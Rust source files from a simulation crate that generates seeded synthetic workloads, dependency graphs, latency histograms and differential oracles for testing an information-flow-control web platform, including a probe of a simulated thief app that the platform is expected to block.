        "sharded kernel under threads diverged from the serial oracle"
    );
    let ref_conc = run_reference_concurrent(spec);
    assert_eq!(
        ref_serial, ref_conc,
        "reference kernel under threads diverged from its own serial replay \
         (schedule is not interleaving-invariant — harness bug)"
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn four_arms_agree_on_default_spec() {
        assert_differential(&ConcSpec { seed: 2007, threads: 4, ops_per_thread: 150, fault_rate: 0.05, shards: 16 });
    }

    #[test]
    fn calm_run_agrees_without_faults() {
        let spec = ConcSpec { seed: 9, threads: 2, ops_per_thread: 120, fault_rate: 0.0, shards: 4 };
        assert_differential(&spec);
        let (out, _) = run_sharded_serial(&spec);
        assert_eq!(out.faults.iter().map(|f| f.total_injected()).sum::<u64>(), 0);
    }

    #[test]
    fn workload_actually_exercises_flow_machinery() {
        let spec = ConcSpec::new(20070824);
        let (out, _) = run_sharded_serial(&spec);
        assert!(out.stats.sends_checked > 0);
        assert!(out.stats.sends_dropped > 0, "taint must force some drops");
        assert!(out.stats.label_changes_denied > 0, "declass without t- must be denied");
        assert!(
            out.procs.values().any(|p| !p.secrecy.is_empty()),
            "some process must end tainted"
        );
        assert!(
            out.faults.iter().map(|f| f.total_injected()).sum::<u64>() > 0,
            "storm must fire"
        );
    }
}
