//! Synthetic module-dependency graphs with a planted trustworthy core
//! (for the CodeRank quality experiment, E6).
//!
//! The model: a small **core** of genuinely useful libraries that honest
//! applications import (often transitively, core modules import each
//! other); a large population of **honest apps** importing 1–3 core
//! modules; and a **spam cohort** of modules that try to look popular by
//! importing *each other* in a ring — in-degree they manufactured
//! themselves. A good suitability signal surfaces the core; raw
//! popularity (in-degree) is fooled by the spam ring.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::HashSet;
use w5_coderank::DepGraph;

/// Generator parameters.
#[derive(Clone, Copy, Debug)]
pub struct DepGraphConfig {
    /// Size of the trustworthy core.
    pub core: usize,
    /// Honest applications.
    pub apps: usize,
    /// Spam modules (each imports `spam_ring` others of its cohort).
    pub spam: usize,
    /// Imports per spam module into its own cohort.
    pub spam_ring: usize,
    /// RNG seed.
    pub seed: u64,
}

impl Default for DepGraphConfig {
    fn default() -> Self {
        DepGraphConfig { core: 10, apps: 200, spam: 50, spam_ring: 20, seed: 42 }
    }
}

/// The generated world: the graph plus ground truth.
pub struct SyntheticDeps {
    /// The dependency graph.
    pub graph: DepGraph,
    /// Names of the planted trustworthy core.
    pub core: HashSet<String>,
    /// Names of the spam cohort.
    pub spam: HashSet<String>,
}

/// Generate a synthetic dependency world.
pub fn generate(config: DepGraphConfig) -> SyntheticDeps {
    let mut rng = StdRng::seed_from_u64(config.seed);
    let mut graph = DepGraph::new();
    let core_names: Vec<String> = (0..config.core).map(|i| format!("core{i}")).collect();
    let spam_names: Vec<String> = (0..config.spam).map(|i| format!("spam{i}")).collect();

    for name in &core_names {
        graph.add_node(name);
    }
    // Core modules import a couple of other core modules (a healthy
    // ecosystem has internal structure).
    for (i, name) in core_names.iter().enumerate() {
        for _ in 0..2 {
            let j = rng.gen_range(0..core_names.len());
            if j != i {
                graph.add_edge(name, &core_names[j]);
            }
        }
    }
    // Honest apps import 1..=3 core modules, preferring low indices
    // (some core modules are more fundamental than others).
    for a in 0..config.apps {
        let app = format!("app{a}");
        let k = rng.gen_range(1..=3);
        for _ in 0..k {
            // Squared uniform biases toward index 0.
            let r: f64 = rng.gen();
            let idx = ((r * r) * core_names.len() as f64) as usize;
            graph.add_edge(&app, &core_names[idx.min(core_names.len() - 1)]);
        }
    }
    // The spam cohort inflates its own in-degree.
    for (i, name) in spam_names.iter().enumerate() {
        for j in 1..=config.spam_ring {
            let target = &spam_names[(i + j) % spam_names.len()];
            graph.add_edge(name, target);
        }
    }
    SyntheticDeps {
        graph,
        core: core_names.into_iter().collect(),
        spam: spam_names.into_iter().collect(),
    }
}

/// Precision-at-k of a ranking against the planted core: what fraction of
/// the top `k` entries are genuinely core modules?
pub fn precision_at_k(graph: &DepGraph, ranking: &[usize], core: &HashSet<String>, k: usize) -> f64 {
    if k == 0 {
        return 0.0;
    }
    let hits = ranking
        .iter()
        .take(k)
        .filter(|&&i| core.contains(graph.name(i)))
        .count();
    hits as f64 / k as f64
}

#[cfg(test)]
mod tests {
    use super::*;
    use w5_coderank::{coderank, popularity, RankParams};

    #[test]
    fn generation_shape() {
        let w = generate(DepGraphConfig::default());
        assert_eq!(w.core.len(), 10);
        assert_eq!(w.spam.len(), 50);
        assert_eq!(w.graph.node_count(), 10 + 200 + 50);
        assert!(w.graph.edge_count() > 1000, "{}", w.graph.edge_count());
    }

    #[test]
    fn coderank_beats_popularity_on_spam_ring() {
        // The E6 claim in miniature: the spam ring manufactures in-degree
        // above any core module's honest in-degree share, so popularity
        // surfaces spam; CodeRank discounts rank that only circulates
        // inside the ring. spam_ring=35 keeps the ring decisively above
        // the weakest core module's expected honest in-degree (~20) for
        // any RNG stream.
        let w = generate(DepGraphConfig { spam_ring: 35, ..Default::default() });
        let rank = coderank(&w.graph, RankParams::default());
        let cr_prec = precision_at_k(&w.graph, &rank.ranking(), &w.core, 10);
        let pop_prec = precision_at_k(&w.graph, &popularity(&w.graph), &w.core, 10);
        assert!(
            cr_prec > pop_prec,
            "coderank {cr_prec} must beat popularity {pop_prec}"
        );
        assert!(cr_prec >= 0.8, "coderank precision@10 = {cr_prec}");
    }

    #[test]
    fn deterministic_per_seed() {
        let a = generate(DepGraphConfig::default());
        let b = generate(DepGraphConfig::default());
        assert_eq!(a.graph.edge_count(), b.graph.edge_count());
    }
}
