//! Differential oracle: the static auditor versus the live perimeter.
//!
//! `w5-analyze` claims its flow graph predicts exactly what the runtime
//! will allow (possibly over-approximating, never under). This harness
//! makes that claim falsifiable: it builds a platform with a *seeded
//! random configuration* — friendships, group memberships, declassifier
//! grants of every builtin kind with random app scopes — freezes it,
//! captures a [`w5_analyze::ConfigSnapshot`], and then fires seeded probe
//! requests at the live platform. For every probe it compares:
//!
//! * **static** — [`w5_analyze::Analysis::allowed`] for the owner's export
//!   tag, the serving app, and the viewer's audience classes, against
//! * **runtime** — the actual [`Platform::invoke`] outcome (`200` with the
//!   owner's sentinel in the body = released, `403` = refused).
//!
//! Any disagreement in either direction is a failure: static-allow with
//! dynamic-deny means the analyzer over-promises exposure (annoying),
//! static-deny with dynamic-allow means it under-reports a leak path
//! (fatal — it breaks the soundness contract of `DESIGN.md` §12).
//!
//! The configuration deliberately excludes stateful declassifiers
//! (`rate-limited`): a budget makes the runtime verdict depend on probe
//! *history*, which a static analysis cannot and should not predict.

use bytes::Bytes;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use w5_analyze::{Analysis, ConfigSnapshot, ExitClass};
use w5_platform::{Account, GrantScope, Platform};

const USERS: usize = 5;

/// The apps probed: one honest reader, one active thief.
const APPS: [&str; 2] = ["devB/blog", "mal/exfiltrator"];

/// The builtin (stateless) declassifiers the configuration draws from.
const DECLS: [&str; 4] = ["owner-only", "friends-only", "group-only", "public-read"];

/// One differential run: a seed for the configuration and the probes, and
/// the number of probes to fire.
#[derive(Clone, Copy, Debug)]
pub struct DiffSpec {
    /// Seeds the configuration RNG and the probe RNG.
    pub seed: u64,
    /// Probe requests to fire after the configuration freezes.
    pub probes: u32,
}

/// What a run produced. Deterministic per spec.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DiffOutcome {
    /// Probes fired.
    pub probes: u32,
    /// Probes the static analysis allowed.
    pub static_allows: u32,
    /// Probes the runtime released.
    pub runtime_allows: u32,
    /// Static/runtime disagreements, one line each. Empty on a healthy
    /// analyzer+platform pair.
    pub disagreements: Vec<String>,
}

fn sentinel(u: usize) -> String {
    format!("SENTINEL-{u}-SECRET-PAYLOAD")
}

/// Run one differential pass. Single-threaded, side-effect free outside
/// its own platform instance, deterministic per spec.
pub fn run_differential(spec: &DiffSpec) -> DiffOutcome {
    let p = Platform::new_default("differential");
    w5_apps::install_all(&p);
    let accounts: Vec<Account> = (0..USERS)
        .map(|i| p.accounts.register(&format!("user{i}"), "pw").unwrap())
        .collect();
    for a in &accounts {
        for app in APPS {
            p.policies.delegate_write(a.id, app);
        }
    }
    // One diary post and one photo per user, both carrying the owner's
    // sentinel under the owner's labels.
    for (i, a) in accounts.iter().enumerate() {
        let req = Platform::make_request(
            "POST",
            "post",
            &[("title", "diary"), ("body", &sentinel(i))],
            Some(a),
            Bytes::new(),
        );
        assert_eq!(p.invoke(Some(a), "devB/blog", req).status, 200);
        let subject = w5_store::Subject::new(
            w5_difc::LabelPair::public(),
            p.registry.effective(&a.owner_caps),
        );
        p.fs
            .create(
                &subject,
                &format!("/photos/{}/x", a.username),
                a.data_labels(),
                Bytes::from(sentinel(i)),
            )
            .unwrap();
    }

    // ---- seeded random configuration --------------------------------
    let mut rng = StdRng::seed_from_u64(spec.seed ^ 0x5734_4946); // "W4IF"
    let mut friends = vec![vec![false; USERS]; USERS];
    let mut groups = vec![vec![false; USERS]; USERS];
    for owner in 0..USERS {
        for other in 0..USERS {
            if owner == other {
                continue;
            }
            if rng.gen_bool(0.3) {
                p.add_friend(&accounts[owner].username, &accounts[other].username);
                friends[owner][other] = true;
            }
            if rng.gen_bool(0.2) {
                p.add_group_member(
                    &accounts[owner].username,
                    "roommates",
                    &accounts[other].username,
                );
                groups[owner][other] = true;
            }
        }
    }
    for a in &accounts {
        for name in DECLS {
            if !rng.gen_bool(0.4) {
                continue;
            }
            let scope = match rng.gen_range(0..3) {
                0 => GrantScope::AllApps,
                n => GrantScope::App(APPS[n - 1].into()),
            };
            p.policies.grant_declassifier(a.id, name, scope);
        }
    }

    // ---- freeze: one static analysis of the final configuration -----
    let analysis = Analysis::analyze(ConfigSnapshot::capture(&p));

    // ---- probe -------------------------------------------------------
    let mut static_allows = 0u32;
    let mut runtime_allows = 0u32;
    let mut disagreements = Vec::new();

    for probe in 0..spec.probes {
        let owner = rng.gen_range(0..USERS);
        let viewer_ix = rng.gen_range(0..=USERS); // USERS = anonymous
        let viewer: Option<&Account> = accounts.get(viewer_ix);
        let app = APPS[rng.gen_range(0..APPS.len())];

        let req = match app {
            "devB/blog" => Platform::make_request(
                "GET",
                "read",
                &[("user", &accounts[owner].username), ("title", "diary")],
                viewer,
                Bytes::new(),
            ),
            _ => Platform::make_request(
                "GET",
                "steal",
                &[("path", &format!("/photos/{}/x", accounts[owner].username))],
                viewer,
                Bytes::new(),
            ),
        };
        let out = p.invoke(viewer, app, req);
        let body = String::from_utf8_lossy(&out.body);
        let runtime_allow = match out.status {
            200 => body.contains(&sentinel(owner)),
            403 => false,
            other => {
                disagreements.push(format!(
                    "probe {probe}: unexpected status {other} (owner={owner} \
                     viewer={viewer_ix} app={app}): {body}"
                ));
                continue;
            }
        };

        // The viewer's audience classes, mirrored from the local matrices.
        let classes: Vec<ExitClass> = match viewer_ix {
            v if v == owner => vec![ExitClass::Owner],
            v if v < USERS => {
                let mut c = Vec::new();
                if friends[owner][v] {
                    c.push(ExitClass::Friends);
                }
                if groups[owner][v] {
                    c.push(ExitClass::Group);
                }
                c.push(ExitClass::Strangers);
                c
            }
            _ => vec![ExitClass::Anonymous],
        };
        let static_allow =
            analysis.allowed(accounts[owner].export_tag.raw(), app, &classes);

        if static_allow {
            static_allows += 1;
        }
        if runtime_allow {
            runtime_allows += 1;
        }
        if static_allow != runtime_allow {
            disagreements.push(format!(
                "probe {probe}: static={static_allow} runtime={runtime_allow} \
                 owner={owner} viewer={viewer_ix} app={app} classes={classes:?} \
                 status={} exits={:?}",
                out.status,
                analysis.exits(accounts[owner].export_tag.raw()),
            ));
        }
    }

    DiffOutcome { probes: spec.probes, static_allows, runtime_allows, disagreements }
}
