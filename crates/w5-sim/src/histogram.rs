//! Log-bucketed latency histograms.

use std::time::Duration;

/// A histogram over nanosecond values with ~4% resolution buckets
/// (powers of 2 subdivided 16 ways), good from nanoseconds to minutes.
#[derive(Clone, Debug)]
pub struct Histogram {
    counts: Vec<u64>,
    total: u64,
    sum_ns: u128,
    min_ns: u64,
    max_ns: u64,
}

const SUB: u64 = 16;

fn bucket_of(ns: u64) -> usize {
    if ns < SUB {
        return ns as usize;
    }
    let exp = 63 - ns.leading_zeros() as u64;
    let base = (exp - 3) * SUB;
    let sub = (ns >> (exp - 4)) - SUB;
    (base + sub) as usize
}

fn bucket_low(bucket: usize) -> u64 {
    let b = bucket as u64;
    if b < SUB {
        return b;
    }
    let exp = b / SUB + 3;
    let sub = b % SUB;
    (SUB + sub) << (exp - 4)
}

impl Default for Histogram {
    fn default() -> Self {
        Histogram::new()
    }
}

impl Histogram {
    /// An empty histogram.
    pub fn new() -> Histogram {
        Histogram {
            counts: vec![0; (64 * SUB) as usize],
            total: 0,
            sum_ns: 0,
            min_ns: u64::MAX,
            max_ns: 0,
        }
    }

    /// Record a duration.
    pub fn record(&mut self, d: Duration) {
        self.record_ns(d.as_nanos().min(u64::MAX as u128) as u64);
    }

    /// Record raw nanoseconds.
    pub fn record_ns(&mut self, ns: u64) {
        let b = bucket_of(ns).min(self.counts.len() - 1);
        self.counts[b] += 1;
        self.total += 1;
        self.sum_ns += ns as u128;
        self.min_ns = self.min_ns.min(ns);
        self.max_ns = self.max_ns.max(ns);
    }

    /// Number of samples.
    pub fn count(&self) -> u64 {
        self.total
    }

    /// Mean in nanoseconds.
    pub fn mean_ns(&self) -> f64 {
        if self.total == 0 {
            0.0
        } else {
            self.sum_ns as f64 / self.total as f64
        }
    }

    /// Approximate percentile (0.0..=1.0), as the lower bound of the
    /// containing bucket.
    pub fn percentile_ns(&self, p: f64) -> u64 {
        if self.total == 0 {
            return 0;
        }
        let rank = ((p.clamp(0.0, 1.0)) * self.total as f64).ceil().max(1.0) as u64;
        let mut seen = 0;
        for (b, &c) in self.counts.iter().enumerate() {
            seen += c;
            if seen >= rank {
                return bucket_low(b).max(self.min_ns).min(self.max_ns);
            }
        }
        self.max_ns
    }

    /// Minimum sample.
    pub fn min_ns(&self) -> u64 {
        if self.total == 0 {
            0
        } else {
            self.min_ns
        }
    }

    /// Maximum sample.
    pub fn max_ns(&self) -> u64 {
        self.max_ns
    }

    /// Merge another histogram into this one.
    pub fn merge(&mut self, other: &Histogram) {
        for (a, b) in self.counts.iter_mut().zip(other.counts.iter()) {
            *a += b;
        }
        self.total += other.total;
        self.sum_ns += other.sum_ns;
        self.min_ns = self.min_ns.min(other.min_ns);
        self.max_ns = self.max_ns.max(other.max_ns);
    }

    /// One-line summary: `n=… mean=… p50=… p99=… max=…` in µs.
    pub fn summary(&self) -> String {
        format!(
            "n={} mean={:.1}us p50={:.1}us p90={:.1}us p99={:.1}us max={:.1}us",
            self.total,
            self.mean_ns() / 1e3,
            self.percentile_ns(0.50) as f64 / 1e3,
            self.percentile_ns(0.90) as f64 / 1e3,
            self.percentile_ns(0.99) as f64 / 1e3,
            self.max_ns as f64 / 1e3,
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bucket_monotone() {
        let mut last = 0;
        for ns in [0u64, 1, 15, 16, 17, 100, 1000, 1 << 20, 1 << 40] {
            let b = bucket_of(ns);
            assert!(b >= last, "bucket({ns})={b} < {last}");
            last = b;
            assert!(bucket_low(b) <= ns, "low({b})={} > {ns}", bucket_low(b));
        }
    }

    #[test]
    fn bucket_resolution_within_7_percent() {
        for ns in [100u64, 999, 12345, 1_000_000, 123_456_789] {
            let low = bucket_low(bucket_of(ns));
            let err = (ns - low) as f64 / ns as f64;
            assert!(err < 0.07, "ns={ns} low={low} err={err}");
        }
    }

    #[test]
    fn stats_on_known_data() {
        let mut h = Histogram::new();
        for i in 1..=1000u64 {
            h.record_ns(i * 1000); // 1µs..1ms
        }
        assert_eq!(h.count(), 1000);
        assert!((h.mean_ns() - 500_500.0).abs() < 1.0);
        let p50 = h.percentile_ns(0.5);
        assert!((450_000..=550_000).contains(&p50), "{p50}");
        let p99 = h.percentile_ns(0.99);
        assert!((930_000..=1_000_000).contains(&p99), "{p99}");
        assert_eq!(h.min_ns(), 1000);
        assert_eq!(h.max_ns(), 1_000_000);
    }

    #[test]
    fn empty_histogram_is_calm() {
        let h = Histogram::new();
        assert_eq!(h.count(), 0);
        assert_eq!(h.mean_ns(), 0.0);
        assert_eq!(h.percentile_ns(0.99), 0);
        assert_eq!(h.min_ns(), 0);
    }

    #[test]
    fn merge_combines() {
        let mut a = Histogram::new();
        let mut b = Histogram::new();
        a.record_ns(100);
        b.record_ns(1_000_000);
        a.merge(&b);
        assert_eq!(a.count(), 2);
        assert_eq!(a.min_ns(), 100);
        assert_eq!(a.max_ns(), 1_000_000);
    }

    #[test]
    fn summary_formats() {
        let mut h = Histogram::new();
        h.record(Duration::from_micros(50));
        let s = h.summary();
        assert!(s.contains("n=1"), "{s}");
    }
}
