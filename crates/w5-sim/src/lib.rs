//! # w5-sim — synthetic worlds for the W5 experiments
//!
//! The paper ships no dataset (it ships no evaluation at all), so the
//! experiments run over controlled synthetic inputs:
//!
//! * [`socialgraph`] — Barabási–Albert and Watts–Strogatz friendship
//!   graphs with the skew/clustering shapes real social networks show.
//! * [`population`] — builds a ready-to-measure world on a platform:
//!   users, friendships, delegations, grants, photos and posts.
//! * [`depgraph`] — synthetic module-dependency graphs with a planted
//!   trustworthy core, for the CodeRank quality experiment (E6).
//! * [`workload`] — weighted request mixes for the throughput/latency
//!   experiments (E4).
//! * [`histogram`] — log-bucketed latency histograms with percentiles
//!   (promoted to `w5-obs` so the whole stack shares one implementation;
//!   re-exported here for the experiment binaries).
//! * [`table`] — plain-text table rendering for experiment reports.
//!
//! Everything is seeded and deterministic.

#![forbid(unsafe_code)]

pub mod chaos;
pub mod concurrency;
pub mod depgraph;
pub mod differential;
pub mod lockgate;
pub mod netdiff;
pub mod population;
pub mod socialgraph;
pub mod storediff;
pub mod table;
pub mod workload;

pub use chaos::{run_chaos, ChaosOutcome, ChaosSpec};
pub use concurrency::{
    assert_differential, run_reference_concurrent, run_reference_serial, run_sharded_concurrent,
    run_sharded_serial, ConcOutcome, ConcSpec, ProcState,
};
pub use differential::{run_differential, DiffOutcome, DiffSpec};
pub use netdiff::{
    assert_net_differential, run_pipeline_storm, run_pipelined_concurrent, run_pipelined_serial,
    NetOutcome, NetRun, NetSpec, StormReport,
};
pub use storediff::{
    assert_store_differential, run_partitioned_concurrent, run_partitioned_serial, StoreOutcome,
    StoreRun, StoreSpec,
};
pub use w5_obs::{histogram, Histogram};
pub use population::{build_population, PopulationConfig, World};
pub use table::Table;

