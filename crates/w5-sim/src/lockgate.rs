//! Lock-order gate shared by the concurrency and store harnesses.
//!
//! Each harness run installs a scoped [`w5_sync::lockdep::Recorder`] and
//! hands it into every worker thread (exactly like the scoped ledger and
//! chaos injectors), so the run leaves behind an order graph of every
//! classed-lock acquisition it performed. [`enforce`] then replays that
//! graph through `w5-lockdep` against the workspace manifest and panics
//! if any finding reaches the deny threshold — a deadlock hazard observed
//! under test is a test failure, not a log line.
//!
//! The threshold comes from `W5_LOCKDEP_DENY` (`info` | `warning` |
//! `error`, default `error`); set it to `off` to record without gating.

use std::sync::Arc;
use w5_lockdep::{analyze, Manifest, Severity};
use w5_sync::lockdep;

/// A fresh recorder for one harness run, with an optional lock-free
/// context provider (sampled once per new acquisition edge, so findings
/// can name the operation mix that was active when the edge appeared).
pub fn recorder(context: Option<Box<lockdep::ContextFn>>) -> Arc<lockdep::Recorder> {
    let rec = Arc::new(lockdep::Recorder::new());
    if let Some(ctx) = context {
        rec.set_context_provider(ctx);
    }
    rec
}

/// The deny threshold from `W5_LOCKDEP_DENY`; `None` means the gate is off.
fn deny_threshold() -> Option<Severity> {
    match std::env::var("W5_LOCKDEP_DENY") {
        Err(_) => Some(Severity::Error),
        Ok(v) if v.eq_ignore_ascii_case("off") => None,
        Ok(v) => Some(v.parse().unwrap_or(Severity::Error)),
    }
}

/// Check the run's order graph against the workspace manifest. Panics
/// with the human-readable report when any finding is at or above the
/// deny threshold.
pub fn enforce(recorder: &lockdep::Recorder, harness: &str) {
    let Some(deny) = deny_threshold() else {
        return;
    };
    let run = recorder.snapshot();
    let report = analyze(&Manifest::workspace(), &run);
    assert!(
        report.passes(deny),
        "w5-lockdep: {harness} harness recorded lock-order findings at or above `{}`:\n{}",
        deny.name(),
        report.render_human(),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_run_passes_the_gate() {
        let rec = recorder(None);
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let a = w5_sync::Mutex::with_index("kernel.shard", 0, ());
            let b = w5_sync::Mutex::with_index("kernel.shard", 1, ());
            let _ga = a.lock();
            let _gb = b.lock();
        }
        enforce(&rec, "unit");
    }

    #[test]
    #[should_panic(expected = "lock-order findings")]
    fn inverted_run_panics() {
        let rec = recorder(None);
        {
            let _scope = lockdep::scoped(Arc::clone(&rec));
            let a = w5_sync::Mutex::with_index("kernel.shard", 0, ());
            let b = w5_sync::Mutex::with_index("kernel.shard", 1, ());
            let _gb = b.lock();
            let _ga = a.lock();
        }
        enforce(&rec, "unit");
    }
}
