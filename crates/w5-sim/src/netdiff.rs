//! Differential request-path oracle for the staged net pipeline.
//!
//! The staged pipeline ([`w5_net::Pipeline`]) claims to preserve, response
//! by response, the behavior of the seed's thread-per-connection dispatch
//! (kept verbatim as [`w5_net::InlineServe`] behind the [`w5_net::Serve`]
//! trait) — while adding bounded per-class queues, deficit-round-robin
//! fairness and admission control in front of the handler. This module
//! checks that claim the way the kernel and store oracles do: replay the
//! *same seeded request schedule* through both engines — under real OS
//! threads and serially — and compare everything an HTTP client could
//! see: status codes, bodies, and the platform's retained fault log.
//!
//! What is deliberately **excluded** from the comparison is the queue
//! metadata the pipeline emits into the obs ledger (`QueueAdmit`,
//! `QueueShed`, `WorkerOccupancy`): the reference engine has no queues,
//! so those events exist on one side by design. Serial ledger digests are
//! therefore compared through [`w5_obs::Ledger::digest_where`] with the
//! queue events filtered out — queue telemetry aside, both engines must
//! drive the platform through a bit-identical event stream.
//!
//! # Why the schedules are interleaving-invariant
//!
//! * **Ownership** — client `c` targets only its own app `nd{c}/app{c}`
//!   and that app touches only its own table `ndt{c}`, so every response
//!   is a pure function of one client's deterministic request sequence.
//! * **Per-client chaos** — each client carries its own
//!   [`w5_chaos::Injector`] for `Site::SqlQuery`. The pipeline captures
//!   the submitter's ambient injector per job and re-installs it on the
//!   worker, so the abort stream a client's handlers experience depends
//!   only on `(seed, client)` — identical across all four arms.
//! * **Admission without charging** — the oracle arms classify requests
//!   (so DRR fairness and per-class queues are really exercised) but
//!   never charge: resource-container verdicts depend on shared counters
//!   and are covered by `w5_platform::boundary` unit tests and the
//!   noninterference suite instead.
//!
//! A separate storm entry point ([`run_pipeline_storm`]) arms the
//! pipeline's *own* fault sites (`net.queue_full`, `net.slow_worker`)
//! via [`w5_net::PipelineConfig::chaos`] and asserts graceful
//! degradation: every shed is a well-formed 503 with a `Retry-After`
//! header and a labeled fault-report body — never a hang, never a
//! malformed response.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::collections::BTreeMap;
use std::net::SocketAddr;
use std::sync::Arc;
use std::thread;
use w5_difc::LabelPair;
use w5_net::{
    Admission, ChargeDenied, ChargePoint, Handler, InlineServe, Pipeline, PipelineConfig,
    PipelineSnapshot, PrincipalClass, Request, Response, Serve,
};
use w5_obs::{EventKind, Ledger};
use w5_platform::{
    ApiError, AppManifest, AppRequest, AppResponse, CreateLabels, Gateway, Platform, PlatformApi,
    W5App,
};
use w5_store::{QueryCost, QueryMode, Subject};
use w5_sync::lockdep;

/// Insert/point ids are drawn from this domain, small enough that gets,
/// deletes and re-inserts regularly collide with live rows.
const ID_DOMAIN: i64 = 24;

/// One differential run: a schedule seed, a client count, a length, and a
/// storm rate for the handler-stage `SqlQuery` fault site.
#[derive(Clone, Copy, Debug)]
pub struct NetSpec {
    /// Seeds every client's request stream and fault plan.
    pub seed: u64,
    /// Concurrent clients; each owns one app and one table.
    pub clients: usize,
    /// Requests each client issues.
    pub requests_per_client: usize,
    /// Injection probability for `Site::SqlQuery` (0.0 = calm).
    pub fault_rate: f64,
}

impl NetSpec {
    /// A moderate default: 4 clients, 40 requests each, a light storm.
    pub fn new(seed: u64) -> NetSpec {
        NetSpec { seed, clients: 4, requests_per_client: 40, fault_rate: 0.05 }
    }
}

/// The observable outcome of one run. Two arms replaying the same
/// [`NetSpec`] must compare equal, whatever the engine or interleaving.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
pub struct NetOutcome {
    /// Per-client FNV-1a digests folded over every response (status and
    /// body — never queue position or timing).
    pub digests: Vec<u64>,
    /// Status-code tallies summed over all clients (each client's tally
    /// is deterministic, so the sum is interleaving-invariant).
    pub statuses: BTreeMap<u16, u64>,
    /// The platform's retained fault log, rendered and sorted (client
    /// completion order must not leak into the comparison).
    pub faults: Vec<String>,
}

/// One arm's result: the comparable outcome plus the arm's private
/// ledger digest with the pipeline's queue-metadata events filtered out.
#[derive(Clone, Debug)]
pub struct NetRun {
    /// The interleaving-invariant observable surface.
    pub outcome: NetOutcome,
    /// `Ledger::digest_where` over everything except `QueueAdmit` /
    /// `QueueShed` / `WorkerOccupancy` — comparable across engines for
    /// serial arms, and across repeated serial runs of one engine.
    pub ledger_digest: u64,
}

/// One request of a client's schedule.
#[derive(Clone, Debug)]
enum Op {
    /// `PUT`-shaped insert into the client's own table.
    Put { id: i64, v: i64 },
    /// Point lookup.
    Get { id: i64 },
    /// Full-table aggregate.
    Sum,
    /// Point delete.
    Del { id: i64 },
    /// Handler panic — the pipeline worker and the platform must both
    /// survive and answer 500.
    Boom,
    /// A static provider route (`GET /registry`).
    Registry,
    /// A route that matches nothing (404 path).
    Missing,
}

fn gen_ops(spec: &NetSpec, c: usize) -> Vec<Op> {
    let mut rng = StdRng::seed_from_u64(
        spec.seed ^ (c as u64 + 1).wrapping_mul(0x9E37_79B9_7F4A_7C15),
    );
    (0..spec.requests_per_client)
        .map(|_| match rng.gen_range(0..100u32) {
            0..=29 => Op::Put { id: rng.gen_range(0..ID_DOMAIN), v: rng.gen_range(0..1000) },
            30..=54 => Op::Get { id: rng.gen_range(0..ID_DOMAIN) },
            55..=66 => Op::Sum,
            67..=81 => Op::Del { id: rng.gen_range(0..ID_DOMAIN) },
            82..=87 => Op::Boom,
            88..=93 => Op::Registry,
            _ => Op::Missing,
        })
        .collect()
}

fn injector_for(spec: &NetSpec, c: usize) -> Arc<w5_chaos::Injector> {
    w5_chaos::Injector::new(
        w5_chaos::FaultPlan::new(spec.seed ^ (c as u64 + 1).wrapping_mul(0xD6E8_FEB8_6659_FD93))
            .with(w5_chaos::Site::SqlQuery, spec.fault_rate),
    )
}

/// The per-client harness application: four SQL actions on the client's
/// own table plus a deliberate panic. Every response body is a pure
/// function of the table state the client's own requests built.
struct NdApp {
    table: String,
}

impl W5App for NdApp {
    fn handle(&self, req: &AppRequest, api: &mut PlatformApi<'_>) -> Result<AppResponse, ApiError> {
        let t = &self.table;
        let param = |k: &str| -> i64 {
            req.params.get(k).and_then(|v| v.parse().ok()).unwrap_or(0)
        };
        match req.action.as_str() {
            "put" => {
                let out = api.query(
                    &format!("INSERT INTO {t} VALUES ({}, {})", param("id"), param("v")),
                    CreateLabels::Derived,
                )?;
                Ok(AppResponse::text(format!("put {}", out.affected)))
            }
            "get" => {
                let out = api.query(
                    &format!("SELECT v FROM {t} WHERE id = {} ORDER BY v", param("id")),
                    CreateLabels::Derived,
                )?;
                let vals: Vec<String> =
                    out.rows.iter().map(|r| format!("{:?}", r.values)).collect();
                Ok(AppResponse::text(vals.join(";")))
            }
            "sum" => {
                let out = api.query(
                    &format!("SELECT COUNT(*), SUM(v) FROM {t}"),
                    CreateLabels::Derived,
                )?;
                Ok(AppResponse::text(format!("{:?}", out.rows[0].values)))
            }
            "del" => {
                let out = api.query(
                    &format!("DELETE FROM {t} WHERE id = {}", param("id")),
                    CreateLabels::Derived,
                )?;
                Ok(AppResponse::text(format!("del {}", out.affected)))
            }
            "boom" => panic!("netdiff boom"),
            other => Ok(AppResponse::text(format!("noop {other}"))),
        }
    }

    fn source_lines(&self) -> usize {
        40
    }
}

/// Identical single-threaded setup for every arm: one table, one
/// manifest and one installed app per client, created in client order so
/// tag and version allocation aligns across arms.
fn setup(platform: &Arc<Platform>, spec: &NetSpec) {
    let trusted = Subject::anonymous();
    for c in 0..spec.clients {
        platform
            .db
            .execute(
                &trusted,
                QueryMode::Filtered,
                QueryCost::unlimited(),
                &LabelPair::public(),
                &format!("CREATE TABLE ndt{c} (id INTEGER, v INTEGER)"),
            )
            .expect("setup: create table");
        platform
            .apps
            .publish(AppManifest {
                name: format!("app{c}"),
                developer: format!("nd{c}"),
                version: 1,
                description: "netdiff harness app".into(),
                module_slots: vec![],
                imports: vec![],
                forked_from: None,
                source: None,
            })
            .expect("setup: publish");
        platform.install_app(&format!("nd{c}/app{c}"), Arc::new(NdApp { table: format!("ndt{c}") }));
    }
}

/// Classifying admission with no resource charging: requests to
/// `/app/:dev/:app/…` queue under that app's class, everything else is
/// anonymous. Keeps the DRR scheduler honest without coupling the oracle
/// to shared quota counters.
struct ClassifyOnly;

impl Admission for ClassifyOnly {
    fn classify(&self, request: &Request, _peer: SocketAddr) -> PrincipalClass {
        let mut segs = request.path.split('/').filter(|s| !s.is_empty());
        if segs.next() == Some("app") {
            if let (Some(dev), Some(app)) = (segs.next(), segs.next()) {
                return PrincipalClass::App(format!("{dev}/{app}"));
            }
        }
        PrincipalClass::Anonymous
    }

    fn charge(
        &self,
        _class: &PrincipalClass,
        _point: ChargePoint,
        _bytes: u64,
    ) -> Result<(), ChargeDenied> {
        Ok(())
    }
}

